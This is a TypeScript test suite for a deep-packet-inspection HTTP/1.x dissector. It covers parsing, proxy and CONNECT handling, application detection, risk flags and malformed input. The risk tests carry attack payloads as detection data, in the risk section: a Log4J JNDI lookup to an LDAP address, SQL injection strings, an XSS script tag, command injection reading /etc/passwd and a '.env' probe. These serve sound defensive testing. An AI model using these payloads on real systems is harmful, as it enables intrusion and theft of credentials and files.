// HTTP/1.x (core-as/dissect/http.ts, http_risks.ts, http_url_attacks.ts, http_apps.ts):
// request line and header fields (RFC 9112 §3, §5), status line (§4), proxies and CONNECT
// (RFC 9112 §3.2.2, RFC 9110 §9.3.6), the HTTP/2 preface (RFC 9113 §3.4), the metadata nDPI
// prints and the risks it raises, and what segmentation and malformed input do.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ascii, cat, type Bytes } from '../core/bytes.ts';
import { proto, tcpConversation, type Turn } from './l7-flows.ts';
import type { FlowInfo } from '../../runtime/types.ts';

const field = (f: FlowInfo, key: string): unknown => (f as unknown as Record<string, unknown>)[key];

// Risk ids (../shared/ndpi/risks.json).
const R = {
  XSS: 1, SQLI: 2, RCE: 3, BINARY_APP: 4, SUSP_UA: 11, NUMERIC_HOST: 12, SUSP_HEADER: 14, SUSP_CONTENT: 25,
  CLEAR_CREDENTIALS: 36, POSSIBLE_EXPLOIT: 40, ERROR_CODE: 43, OBSOLETE_SERVER: 47, BINARY_DATA: 54,
};

const UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0';

/** A request: the request line, then header lines, then the empty line (CRLF endings). */
function request(line: string, headers: string[], body = ''): Bytes {
  return ascii(`${line}\r\n${headers.map((h) => `${h}\r\n`).join('')}\r\n${body}`);
}

function response(status: string, headers: string[], body: Bytes | string = ''): { reply: Bytes } {
  const head = ascii(`HTTP/1.1 ${status}\r\n${headers.map((h) => `${h}\r\n`).join('')}\r\n`);
  return { reply: cat(head, typeof body === 'string' ? ascii(body) : body) };
}

const risks = (f: FlowInfo) => [...f.flow_risk].sort((a, b) => a - b);
const httpRisks = (f: FlowInfo) => risks(f).filter((r) => r !== 46 && r !== 5);

async function exchange(turns: Turn[], sport = 80, cport = 40000): Promise<FlowInfo> {
  return tcpConversation(cport, sport, turns);
}

test('GET and its response: method, Hostname, URL = Host + target, agent, status, server, media type', async () => {
  const f = await exchange([
    request('GET /search?q=1 HTTP/1.1', ['Host: WWW.Example.ORG:8080', `User-Agent: ${UA}`, 'Accept: */*']),
    response('200 OK', ['Server: nginx/1.25.3', 'Content-Type: text/html; charset=UTF-8']),
  ]);
  assert.equal(proto(f), 'HTTP [DPI]');
  assert.equal(f.host_server_name, 'www.example.org');
  assert.equal(f['protos.http.last_url'], 'WWW.Example.ORG:8080/search?q=1');
  assert.equal(f['protos.http.last_method'], 'GET');
  assert.equal(f['protos.http.last_user_agent'], UA);
  assert.equal(f['protos.http.last_return_code'], 200);
  assert.equal(f['protos.http.last_server'], 'nginx/1.25.3');
  assert.equal(f['protos.http.last_content_type'], 'text/html');
  assert.deepEqual(httpRisks(f), []);
});

test('the Host picks the application from the host list (HTTP.Google)', async () => {
  const f = await exchange([request('GET / HTTP/1.1', ['Host: www.google.com', `User-Agent: ${UA}`]), response('301 Moved', [])]);
  assert.equal(f['proto.ndpi'], 'HTTP.Google');
});

test('field names are case-insensitive, OWS around values is dropped, LF-only line ends are accepted', async () => {
  const f = await exchange([
    ascii(`POST /form HTTP/1.0\nhOsT:host.lan\nuser-agent:   curl/8.4.0  \ncontent-TYPE: application/x-www-form-urlencoded\n\na=1`),
    { reply: ascii('HTTP/1.0 204 No Content\nSERVER: tiny\n\n') },
  ]);
  assert.equal(f.host_server_name, 'host.lan');
  assert.equal(f['protos.http.last_url'], 'host.lan/form');
  assert.equal(f['protos.http.last_method'], 'POST');
  assert.equal(f['protos.http.last_user_agent'], 'curl/8.4.0');
  assert.equal(f['protos.http.last_req_content_type'], 'application/x-www-form-urlencoded');
  assert.equal(f['protos.http.last_return_code'], 204);
  assert.equal(f['protos.http.last_server'], 'tiny');
});

test('absolute-form target (RFC 9112 §3.2.2): HTTP_Proxy, URL is the target as sent', async () => {
  const f = await exchange([
    request('GET http://http.com/ HTTP/1.1', ['Host: http.com', `User-Agent: ${UA}`]),
    response('200 OK', ['Content-Type: text/html']),
  ], 8080);
  assert.equal(proto(f), 'HTTP_Proxy [DPI]');
  assert.equal(f.host_server_name, 'http.com');
  assert.equal(f['protos.http.last_url'], 'http://http.com/');
});

test('CONNECT (RFC 9110 §9.3.6): HTTP_Connect, URL is the authority; the tunnelled TLS changes nothing', async () => {
  const f = await exchange([
    request('CONNECT apache.org:443 HTTP/1.1', ['Host: apache.org:443', `User-Agent: ${UA}`]),
    response('200 Connection established', []),
    cat([0x16, 0x03, 0x01, 0x00, 0x05], [0x01, 0x00, 0x00, 0x01, 0x00]),
  ], 8080);
  assert.equal(proto(f), 'HTTP_Connect [DPI]');
  assert.equal(f.host_server_name, 'apache.org');
  assert.equal(f['protos.http.last_url'], 'apache.org:443');
  assert.equal(f['protos.http.last_return_code'], 200);
});

test('a flow that starts with the response waits for the request and the response after it', async () => {
  const f = await exchange([
    response('200 OK', ['Server: Apache/2.4.41 (Ubuntu)', 'Content-Type: text/html']),
    request('GET /logo.png HTTP/1.1', ['Host: site.example', `User-Agent: ${UA}`]),
    response('200 OK', ['Server: Apache/2.4.41 (Ubuntu)', 'Content-Type: image/png']),
  ]);
  assert.equal(proto(f), 'HTTP [DPI]');
  assert.equal(f['protos.http.last_url'], 'site.example/logo.png');
  assert.equal(f['protos.http.last_content_type'], 'image/png');
});

test('Host in the segment after the request line: Hostname, but no URL (as nDPI)', async () => {
  const f = await exchange([
    ascii(`GET /impression?k=1 HTTP/1.1\r\nUser-Agent: ${UA}\r\n`),
    ascii('Accept-Encoding: gzip\r\nHost: de01.example.com\r\n\r\n'),
    response('200 OK', ['Server: nginx']),
  ]);
  assert.equal(f.host_server_name, 'de01.example.com');
  assert.equal(field(f, 'protos.http.last_url'), undefined);
  assert.equal(f['protos.http.last_user_agent'], UA);
  assert.equal(f['protos.http.last_return_code'], 200);
});

test('a request line split over segments: HTTP, fields from the continuation, no URL', async () => {
  const f = await exchange([
    ascii('GET /track?rid=f84f54bf&impid=1&cid=65-143845&'),
    ascii('crid=65-253640 HTTP/1.1\r\nUser-Agent: okhttp/3.10.0\r\nHost: adx.example.com\r\n\r\n'),
    response('204 No Content', ['Server: nginx']),
  ]);
  assert.equal(proto(f), 'HTTP [DPI]');
  assert.equal(f.host_server_name, 'adx.example.com');
  assert.equal(f['protos.http.last_user_agent'], 'okhttp/3.10.0');
  assert.equal(field(f, 'protos.http.last_url'), undefined);
  assert.equal(f['protos.http.last_return_code'], 204);
  assert.deepEqual(httpRisks(f), []);
});

test('a later request in the window replaces the URL (nDPI prints the last one)', async () => {
  const f = await exchange([
    request('GET /js/app.js HTTP/1.1', ['Host: a.example', `User-Agent: ${UA}`]),
    { reply: ascii('\x1f\x8b\x08 body of an earlier response') },
    request('GET /img/b.png HTTP/1.1', ['Host: a.example', `User-Agent: ${UA}`]),
    response('200 OK', ['Content-Type: image/png']),
  ]);
  assert.equal(f['protos.http.last_url'], 'a.example/img/b.png');
  assert.equal(f['protos.http.last_content_type'], 'image/png');
});

test('after the request, at most 8 more packets are read: a later response is not', async () => {
  const body = ascii('x'.repeat(100));
  const f = await exchange([
    request('POST /upload HTTP/1.1', ['Host: up.example', `User-Agent: ${UA}`, 'Content-Type: application/json']),
    body, body, body, body, body, body, body, body,
    response('200 OK', ['Server: late']),
  ]);
  assert.equal(f['protos.http.last_req_content_type'], 'application/json');
  assert.equal(field(f, 'protos.http.last_return_code'), undefined);
  assert.equal(field(f, 'protos.http.last_server'), undefined);
});

test('RTSP and SIP requests are not HTTP; neither is a binary first segment', async () => {
  const rtsp = await exchange([ascii('OPTIONS rtsp://cam.example/stream RTSP/1.0\r\nCSeq: 1\r\n\r\n')], 8554);
  assert.notEqual(rtsp['proto.ndpi'].split('.')[0], 'HTTP');
  assert.equal(field(rtsp, 'protos.http.last_url'), undefined);
  const binary = await exchange([Uint8Array.from([0x4e, 0x4f, 0x53, 0x41, 0x00, 0x60, 0x01, 0x02, 0x03])], 8081);
  assert.equal(field(binary, 'protos.http.last_method'), undefined);
});

test('clear-text HTTP/2 (RFC 9113 §3.4 preface) is HTTP2', async () => {
  const f = await exchange([ascii('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), { reply: Uint8Array.from([0, 0, 0, 4, 0, 0, 0, 0, 0]) }], 29518);
  assert.equal(proto(f), 'HTTP2 [DPI]');
});

test('a stray 2-byte segment before the request does not hide it', async () => {
  const f = await exchange([Uint8Array.from([0, 0]), request('GET /f HTTP/1.1', ['Host: dl.example', `User-Agent: ${UA}`])]);
  assert.equal(f['protos.http.last_url'], 'dl.example/f');
});

// --- Applications named by the payload -------------------------------------------------------

test('OCSP by media type wins over the host list; SOAPAction is SOAP; tracker announces are BitTorrent', async () => {
  const ocsp = await exchange([
    request('POST / HTTP/1.1', ['Host: ocsp.pki.goog', `User-Agent: ${UA}`, 'Content-Type: application/ocsp-request']),
    response('200 OK', ['Content-Type: application/ocsp-response']),
  ]);
  assert.equal(ocsp['proto.ndpi'], 'HTTP.OCSP');
  const soap = await exchange([request('POST /svc HTTP/1.1', ['SOAPAction: ""', 'Host: svc.lan', `User-Agent: ${UA}`])]);
  assert.equal(soap['proto.ndpi'], 'HTTP.SOAP');
  const bt = await exchange([
    request('GET /announce?info_hash=%aa7i&peer_id=-TR2940- HTTP/1.1', ['Host: tracker.example', 'User-Agent: Transmission/2.94']),
    response('307 Temporary Redirect', []),
  ]);
  assert.equal(bt['proto.ndpi'], 'HTTP.BitTorrent');
  assert.equal(field(bt, 'protos.http.last_return_code'), undefined);
});

test('DASH segments by extension, HLS by media type, ntopng by its Server', async () => {
  const dash = await exchange([request('GET /v/seg-1.m4s HTTP/1.1', ['Host: cdn.example', `User-Agent: ${UA}`])]);
  assert.equal(dash['proto.ndpi'], 'HTTP.MpegDash');
  const notDash = await exchange([request('GET /v/a.mp4?key=1 HTTP/1.1', ['Host: cdn.example', `User-Agent: ${UA}`])]);
  assert.equal(notDash['proto.ndpi'], 'HTTP');
  const hls = await exchange([
    request('GET /out.m3u8 HTTP/1.1', ['Host: tv.example', `User-Agent: ${UA}`]),
    response('200 OK', ['Content-Type: application/vnd.apple.mpegurl']),
  ]);
  assert.equal(hls['proto.ndpi'], 'HTTP.HLS');
  const ntop = await exchange([
    request('GET /generate204 HTTP/1.1', ['Host: conn.example', `User-Agent: ${UA}`]),
    response('302 Found', ['Server: ntopng 6.1.240606 (x86_64)', 'Content-Type: text/html']),
  ]);
  assert.equal(ntop['proto.ndpi'], 'HTTP.ntop');
});

// --- Risks -----------------------------------------------------------------------------------

test('numeric Host: risk 12; a different address than the server also makes the header suspicious', async () => {
  const same = await exchange([request('GET / HTTP/1.1', ['Host: 10.0.0.2:80', `User-Agent: ${UA}`])]);
  assert.deepEqual(httpRisks(same), [R.NUMERIC_HOST]);
  assert.equal(field(same, 'risk_info'), 'Found host 10.0.0.2');
  const other = await exchange([request('GET / HTTP/1.1', ['Host: 205.174.165.68', `User-Agent: ${UA}`])]);
  assert.deepEqual(httpRisks(other), [R.NUMERIC_HOST, R.SUSP_HEADER]);
  assert.equal(field(other, 'risk_info'), 'Found host 205.174.165.68 / Expected 10.0.0.2, found 205.174.165.68');
});

test('User-Agent heuristics: missing, random letters, Log4J probes, "test"', async () => {
  const missing = await exchange([request('GET / HTTP/1.1', ['Host: a.example'])]);
  assert.deepEqual(httpRisks(missing), [R.SUSP_UA]);
  assert.equal(field(missing, 'risk_info'), 'Empty or missing User-Agent');
  const random = await exchange([request('GET / HTTP/1.1', ['Host: a.example', 'User-Agent: pwtyyEKzNtGatwnJjmCcBLbOveCVpc'])]);
  assert.deepEqual(httpRisks(random), [R.SUSP_UA]);
  const jndi = await exchange([request('GET / HTTP/1.1', ['Host: a.example', 'User-Agent: jndi:ldap://172.16.238.11:1389/a'])]);
  assert.deepEqual(httpRisks(jndi), [R.POSSIBLE_EXPLOIT]);
  const braces = await exchange([request('GET / HTTP/1.1', ['Host: a.example', 'User-Agent: ${jndi:dns://x}'])]);
  assert.deepEqual(httpRisks(braces), [R.SUSP_UA]);
  const testUa = await exchange([request('GET / HTTP/1.1', ['Host: a.example', 'User-Agent: test'])]);
  assert.deepEqual(httpRisks(testUa), [R.SUSP_UA]);
  const fine = await exchange([request('GET / HTTP/1.1', ['Host: a.example', 'User-Agent: Microsoft-CryptoAPI/10.0'])]);
  assert.deepEqual(httpRisks(fine), []);
});

test('Basic credentials (RFC 7617), 4xx/5xx status, obsolete and non-printable servers', async () => {
  const auth = await exchange([
    request('GET /password-ok.php HTTP/1.1', ['Host: browserspy.dk', `User-Agent: ${UA}`, 'Authorization: Basic dGVzdDp0ZXN0']),
    response('401 Authorization Required', ['Server: Apache', 'Content-Type: text/html']),
  ]);
  assert.deepEqual(httpRisks(auth), [R.CLEAR_CREDENTIALS, R.ERROR_CODE]);
  assert.equal(field(auth, 'risk_info'), 'Found credentials in HTTP Auth Line / HTTP Error Code 401');
  const old = await exchange([request('GET / HTTP/1.1', ['Host: a.example', `User-Agent: ${UA}`]), response('200 OK', ['Server: Apache/2.2.22 (Ubuntu)'])]);
  assert.deepEqual(httpRisks(old), [R.OBSOLETE_SERVER]);
  assert.equal(field(old, 'risk_info'), 'Obsolete Apache server 2.2.22');
  const current = await exchange([request('GET / HTTP/1.1', ['Host: a.example', `User-Agent: ${UA}`]), response('200 OK', ['Server: Apache/2.4.7 (Ubuntu)'])]);
  assert.deepEqual(httpRisks(current), []);
  const odd = await exchange([
    request('GET / HTTP/1.1', ['Host: a.example', `User-Agent: ${UA}`]),
    { reply: cat(ascii('HTTP/1.1 200 OK\r\nServer: '), [0xc2, 0xaf, 0x5c, 0x5f, 0x28, 0x29, 0x5f, 0x2f], ascii('\r\n\r\n')) },
  ]);
  assert.deepEqual(httpRisks(odd), [R.SUSP_HEADER]);
});

test('downloads: octet-stream, executable media types, an MZ body, a named file', async () => {
  const get = request('GET /solar.php HTTP/1.1', ['Host: dl.example', `User-Agent: ${UA}`]);
  const octet = await exchange([get, response('200 OK', ['Content-Type: application/octet-stream'], 'data')]);
  assert.deepEqual(httpRisks(octet), [R.BINARY_DATA]);
  const exe = await exchange([get, response('200 OK', ['Content-Type: application/x-msdownload', 'Content-Disposition: attachment; filename="a.dll"'])]);
  assert.deepEqual(httpRisks(exe), [R.BINARY_APP, R.BINARY_DATA]);
  assert.equal(field(exe, 'risk_info'), 'Found mime exe x-msdownload / File download a.dll');
  const mz = await exchange([get, response('200 OK', ['Content-Type: image/png'], 'MZ\x90\x00\x03')]);
  assert.deepEqual(httpRisks(mz), [R.BINARY_APP]);
  assert.equal(field(mz, 'risk_info'), 'Found DOS/Windows Exe');
  const java = await exchange([get, response('200 OK', ['Content-Type: application/java-vm'])]);
  assert.deepEqual(httpRisks(java), [R.BINARY_APP, R.POSSIBLE_EXPLOIT]);
});

test('a text body that is not text is suspicious, unless it is content-encoded', async () => {
  const get = request('GET /a.bif HTTP/1.1', ['Host: img.example', `User-Agent: ${UA}`]);
  const binary = await exchange([get, response('200 OK', ['Content-Type: text/plain'], Uint8Array.from([0x89, 0x42, 0x49, 0x46, 0x00]))]);
  assert.deepEqual(httpRisks(binary), [R.SUSP_CONTENT]);
  assert.equal(field(binary, 'risk_info'), 'Susp content 89424946');
  const gzip = await exchange([get, response('200 OK', ['Content-Type: text/html', 'Content-Encoding: gzip'], Uint8Array.from([0x1f, 0x8b, 0x08, 0x00, 0x00]))]);
  assert.deepEqual(httpRisks(gzip), []);
});

test('attacks in the target: SQL injection, XSS, command injection, dot files; a lone quote is not one', async () => {
  const at = async (target: string) => httpRisks(await exchange([request(`GET ${target} HTTP/1.1`, ['Host: web.example', `User-Agent: ${UA}`])]));
  assert.deepEqual(await at('/sqli/?id=1%27+and+1%3D1%23&Submit=Submit'), [R.SQLI]);
  assert.deepEqual(await at('/sqli/?id=a%27+UNION+SELECT+%22t1%22%2C%22t2%22%3B--+-'), [R.SQLI]);
  assert.deepEqual(await at('/list?id=1+or+1%3D1'), [R.SQLI]);
  assert.deepEqual(await at('/sqli/?id=1%27&Submit=Submit'), []);
  assert.deepEqual(await at('/xss_d/?default=English%3Cscript%3Ealert(1)%3C/script%3E'), [R.XSS]);
  assert.deepEqual(await at('/cgi-bin/x?cmd=%3Bcat+/etc/passwd'), [R.RCE]);
  assert.deepEqual(await at('/.env'), [R.POSSIBLE_EXPLOIT]);
  assert.deepEqual(await at('/search?q=union+station&order=price'), []);
});

test('header names that malware beacons send (TLS_version, Uuid...) make the message suspicious', async () => {
  const f = await exchange([
    request('GET /certs/ca.crt HTTP/1.1', ['Host: pki.example', `User-Agent: ${UA}`]),
    response('200 OK', ['Content-Type: application/pkix-cert', 'TLS_version: UNKNOWN']),
  ]);
  assert.deepEqual(httpRisks(f), [R.SUSP_HEADER]);
  assert.equal(field(f, 'risk_info'), 'Found TLS_version: UNKNOWN');
});

// --- Malformed and truncated input ---------------------------------------------------------

test('truncated and malformed segments: no crash, nothing read past a segment', async () => {
  const cases: Bytes[] = [
    ascii('GET'), ascii('GET '), ascii('GET /'), ascii('GET / HTTP/1.1'), ascii('GET / HTTP/1.1\r\n'),
    ascii('GET / HTTP/1.1\r\nHost:'), ascii('GET / HTTP/1.1\r\nHost:\r\n\r\n'), ascii('GET / HTTP/1.1\r\n:\r\n:x\r\n\r\n'),
    ascii('GET  HTTP/1.1\r\n\r\n'), ascii('GET / HTTP/1.1\r\nHost: [::1\r\n\r\n'), ascii('GET / HTTP/1.1\r\nHost: :80\r\n\r\n'),
    cat(ascii('GET /'), new Uint8Array(2000).fill(0x41)), ascii(`GET / HTTP/1.1\r\n${'X: y\r\n'.repeat(400)}\r\n`),
  ];
  for (const payload of cases) {
    const f = await exchange([payload, { reply: ascii('HTTP/1.1 2') }, { reply: ascii('HTTP/1.1 200') }]);
    assert.ok(f['proto.ndpi'] !== undefined);
  }
  const longTarget = '/' + 'a'.repeat(600);
  const long = await exchange([request(`GET ${longTarget} HTTP/1.1`, ['Host: long.example', `User-Agent: ${'U'.repeat(400)}`])]);
  assert.equal(String(long['protos.http.last_url']).length, 255);
  assert.equal(String(long['protos.http.last_url']), `long.example${longTarget}`.slice(0, 255));
  assert.equal(String(long['protos.http.last_user_agent']).length, 255);
  // A status line with no digits, a version without the space: not a response.
  const bad = await exchange([request('GET / HTTP/1.1', ['Host: a.example', `User-Agent: ${UA}`]), { reply: ascii('HTTP/1.1 abc OK\r\n\r\n') }]);
  assert.equal(field(bad, 'protos.http.last_return_code'), undefined);
  // Percent escapes cut at the end of the target decode safely.
  const cut = await exchange([request('GET /q?x=%2 HTTP/1.1', ['Host: a.example', `User-Agent: ${UA}`])]);
  assert.equal(cut['protos.http.last_url'], 'a.example/q?x=%2');
});

test('connectivity probes (/generate_204, /generate204) are ConnCheck whatever the host list says (conncheck.pcap)', async () => {
  const probe = (target: string, host: string) => exchange([request(`GET ${target} HTTP/1.1`, [`Host: ${host}`, 'User-Agent: Dalvik/2.1.0 (Linux; U; Android 11)'])]);
  const google = await probe('/generate_204', 'www.google.eu');
  assert.equal(proto(google), 'HTTP.Google [DPI]');
  assert.equal(google['proto.ndpi_cat'], 'ConnCheck');
  assert.equal((await probe('/generate204', 'conn-service-eu-04.allawnos.com'))['proto.ndpi_cat'], 'ConnCheck');
  assert.equal((await probe('/generate_204?x=1', 'www.google.eu'))['proto.ndpi_cat'], 'ConnCheck');
  // Only that path: a longer one keeps the host's category.
  assert.equal((await probe('/generate_2048', 'www.google.eu'))['proto.ndpi_cat'], 'Web');
});

test("MapleStory's launcher requests name the game alone, keeping the HTTP metadata", async () => {
  const page = await tcpConversation(60546, 80, [request('GET /maplestory/ HTTP/1.1', ['Host: example.com', 'User-Agent: AspINet', 'Accept: */*'])]);
  assert.equal(proto(page), 'MapleStory [DPI]');
  assert.equal(page.host_server_name, 'example.com');
  assert.equal(field(page, 'protos.http.last_user_agent'), 'AspINet');
  const patch = await tcpConversation(60546, 80, [request('GET /maple/patch/00123.patch HTTP/1.1', ['Host: patch.nexon.net', 'User-Agent: Patcher'])]);
  assert.equal(proto(patch), 'MapleStory [DPI]');
});

test('MapleStory: another agent, a longer agent, a patch from another host, POST: HTTP', async () => {
  for (const req of [
    request('GET /maplestory/ HTTP/1.1', ['Host: example.com', `User-Agent: ${UA}`]),
    request('GET /maplestory/ HTTP/1.1', ['Host: example.com', 'User-Agent: AspINet2']),
    request('GET /maple/patch/1 HTTP/1.1', ['Host: www.nexon.net', 'User-Agent: Patcher']),
    request('POST /maplestory/ HTTP/1.1', ['Host: example.com', 'User-Agent: AspINet']),
  ]) {
    assert.equal(proto(await tcpConversation(60546, 80, [req])), 'HTTP [DPI]', Buffer.from(req).toString().split('\r\n')[0]);
  }
});
